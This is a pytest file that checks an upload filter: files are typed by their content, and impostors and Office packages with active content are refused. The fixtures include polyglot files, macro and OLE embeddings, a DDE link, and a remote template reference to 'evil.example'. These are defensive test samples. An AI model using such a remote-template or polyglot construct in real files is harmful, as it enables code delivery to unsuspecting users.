"""What a file is, by its content alone."""

from io import BytesIO

import pytest

from fengqiao.foundation.files.media import (
    DOCX,
    TAIL,
    XLSX,
    ZIP,
    Edges,
    NotAcceptedError,
    TextCheck,
    media_type_of,
    office_type_of,
)
from support.files import EXE, HTML, JPEG, PDF, SVG, office, package, png

ACCEPTED = [
    (JPEG, "image/jpeg"),
    (png(), "image/png"),
    (b"GIF89a\x01\x00\x01\x00" + b"\x80" * 20, "image/gif"),
    (b"RIFF\x10\x00\x00\x00WEBPVP8L" + b"\x00" * 20, "image/webp"),
    (b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic", "image/heic"),
    (b"\x00\x00\x00\x18ftypmif1\x00\x00\x00\x00mif1heic", "image/heic"),
    (PDF, "application/pdf"),
    (b"ID3\x03\x00\x00\x00\x00\x00\x21" + b"\x00" * 40, "audio/mpeg"),
    (b"\x00\x00\x00\x20ftypM4A \x00\x00\x00\x00M4A mp42isom", "audio/mp4"),
    (b"RIFF\x24\x00\x00\x00WAVEfmt \x10\x00\x00\x00", "audio/wav"),
    (b"\x00\x00\x00\x20ftypisom\x00\x00\x02\x00isomiso2avc1mp41", "video/mp4"),
    ("2019年11月14日，柜员说没有年费。\r\n".encode(), "text/plain"),
    ("柜员说没有年费。".encode("gb18030"), "text/plain"),
    (office(), ZIP),
]


def judge(content: bytes) -> str:
    text = TextCheck()
    text.feed(content)
    text.feed(b"", final=True)
    return media_type_of(Edges(content[:4096], content[-TAIL:], text.is_text))


@pytest.mark.parametrize(("content", "media_type"), ACCEPTED, ids=[kind for _, kind in ACCEPTED])
def test_an_accepted_kind_is_known_by_its_content(content, media_type):
    assert judge(content) == media_type


@pytest.mark.parametrize(
    "content",
    [
        HTML,
        SVG,
        EXE,
        b"\xef\xbb\xbf" + SVG,
        b"  \n<?xml version='1.0'?><svg/>",
        b"GIF89a=1;/*" + HTML,
        JPEG + package({"a.class": b"x"}),
        PDF + package({"a.txt": b"x"}),
        b"text with\x00a zero",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 100,
        b"\xff\xd8 no jpeg",
        b" " + PDF.replace(b"%PDF", b"\x01%PDF"),
    ],
    ids=[
        "html",
        "svg",
        "exe",
        "svg-bom",
        "svg-xml",
        "gif-html",
        "jpeg-zip",
        "pdf-zip",
        "binary",
        "ole",
        "cut",
        "late-pdf",
    ],
)
def test_an_impostor_is_refused(content):
    with pytest.raises(NotAcceptedError):
        judge(content)


@pytest.mark.parametrize(("main", "kind"), [("word/document.xml", DOCX), ("xl/workbook.xml", XLSX)])
def test_a_package_is_what_its_main_part_says(main, kind):
    assert office_type_of(BytesIO(office(main))) == kind


REMOTE = b'<Relationships><Relationship Id="r" Type="http://x/attachedTemplate" Target="https://evil.example/t.dotm"/></Relationships>'
LOCAL = REMOTE.replace(b"https://evil.example/t.dotm", b"file:///C:/Templates/house.dotx")


@pytest.mark.parametrize(
    "package_bytes",
    [
        office(word__vbaProject_dot_bin=b"x"),
        office(word__embeddings__oleObject1_dot_bin=b"x"),
        office(word__activeX__activeX1_dot_xml=b"x"),
        office(word__page_dot_html=b"x"),
        office(word___rels__settings_dot_xml_dot_rels=REMOTE),
        office("xl/workbook.xml", xl__externalLinks__externalLink1_dot_xml=b"<ddeLink/>"),
        office("ppt/presentation.xml"),
        office(xl__workbook_dot_xml=b"<workbook/>"),
        package(
            {"[Content_Types].xml": b"application/vnd.ms-word.document.macroEnabled.main+xml", "word/document.xml": b""}
        ),
        package({"a.txt": b"only an archive"}),
        HTML + office(),
        office()[:-30],
        b"PK\x03\x04 nothing",
    ],
)
def test_a_package_with_active_content_or_unsound_is_refused(package_bytes):
    with pytest.raises(NotAcceptedError):
        office_type_of(BytesIO(package_bytes))


def test_a_template_on_the_writers_own_disk_is_no_reason_to_refuse():
    assert office_type_of(BytesIO(office(word___rels__settings_dot_xml_dot_rels=LOCAL))) == DOCX


def test_a_character_cut_between_two_chunks_is_still_text():
    text, content = TextCheck(), "年费".encode()
    text.feed(content[:2])
    text.feed(content[2:])
    text.feed(b"", final=True)
    assert text.is_text
